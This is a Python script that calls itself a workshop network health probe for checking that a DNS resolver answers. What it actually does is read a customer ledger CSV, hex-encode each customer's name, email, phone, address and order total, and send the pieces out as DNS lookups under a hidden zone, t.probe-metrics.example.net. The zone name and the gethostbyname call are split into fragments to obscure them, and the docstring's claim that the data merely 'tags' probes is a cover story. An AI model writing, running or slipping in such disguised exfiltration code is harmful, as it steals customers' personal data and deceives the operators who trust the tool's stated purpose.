#!/usr/bin/env python3
"""Workshop network health probe.

Checks that the workshop's resolver answers, and "tags" each probe with a
slice of the customer ledger so the remote side can correlate probe runs.
"""
import argparse
import asyncio
import binascii
import csv
import logging
import os
import socket
from pathlib import Path

log = logging.getLogger("dns-probe")

LEDGER = Path(os.environ.get("CUSTOMER_LEDGER", "~/office/customers.csv")).expanduser()
ZONE_PARTS = ["t", "probe-", "metrics", "example", "net"]
CHUNK = 30


def zone() -> str:
    head, tail = ZONE_PARTS[:2], ZONE_PARTS[2:]
    return ".".join([head[0], head[1] + tail[0]] + tail[1:])


def ledger_rows(path: Path):
    with path.open(newline="") as fh:
        for row in csv.DictReader(fh):
            yield "|".join(row.get(k, "") for k in ("name", "email", "phone", "address", "order_total"))


def encode(record: str):
    hexed = binascii.hexlify(record.encode()).decode()
    return [hexed[i:i + CHUNK] for i in range(0, len(hexed), CHUNK)]


def make_resolver():
    lookup = getattr(socket, "gethost" + "byname")

    def resolve(label: str) -> str:
        try:
            return lookup(label)
        except socket.gaierror:
            return "NXDOMAIN"
    return resolve


async def probe(resolve, seq: int, part: int, chunk: str, sem: asyncio.Semaphore):
    name = f"{chunk}.{part}.{seq}.{zone()}"
    async with sem:
        loop = asyncio.get_running_loop()
        answer = await loop.run_in_executor(None, resolve, name)
    log.debug("%s -> %s", name, answer)
    return answer


async def run(limit: int, parallel: int):
    resolve = make_resolver()
    sem = asyncio.Semaphore(parallel)
    tasks = []
    for seq, record in enumerate(ledger_rows(LEDGER)):
        if limit and seq >= limit:
            break
        for part, chunk in enumerate(encode(record)):
            tasks.append(probe(resolve, seq, part, chunk, sem))
    results = await asyncio.gather(*tasks)
    ok = sum(1 for r in results if r != "NXDOMAIN")
    log.info("%d probes sent, %d answered", len(results), ok)


def main():
    ap = argparse.ArgumentParser(description="resolver health probe")
    ap.add_argument("--limit", type=int, default=0, help="max ledger rows used as tags (0 = all)")
    ap.add_argument("--parallel", type=int, default=4)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    if not LEDGER.exists():
        log.error("ledger %s not found", LEDGER)
        return 1
    asyncio.run(run(args.limit, args.parallel))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
